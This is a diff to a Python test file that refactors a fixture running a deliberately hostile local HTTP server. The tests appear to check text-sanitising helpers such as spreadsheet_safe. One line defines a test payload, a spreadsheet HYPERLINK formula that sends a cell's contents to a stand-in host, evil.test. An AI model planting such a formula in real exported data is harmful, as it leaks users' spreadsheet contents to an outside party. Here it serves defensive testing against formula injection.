@@ -11,7 +11,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -22,6 +21,7 @@ from hypothesis import strategies as st
 from rich.text import Text
 
 from helpers.cli import run
+from helpers.servers import serving_thread
 from swgdb_bridge.textsafe import for_markup, spreadsheet_safe, visible
 
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"click me")'
@@ -93,7 +93,7 @@ class _HostileServer(BaseHTTPRequestHandler):
 @pytest.fixture
 def hostile_server() -> Iterator[str]:
     server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)  # port 0: the OS picks, nothing races
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread = serving_thread(server, "hostile-server")
     thread.start()
     try:
         yield f"http://127.0.0.1:{server.server_address[1]}/v1"
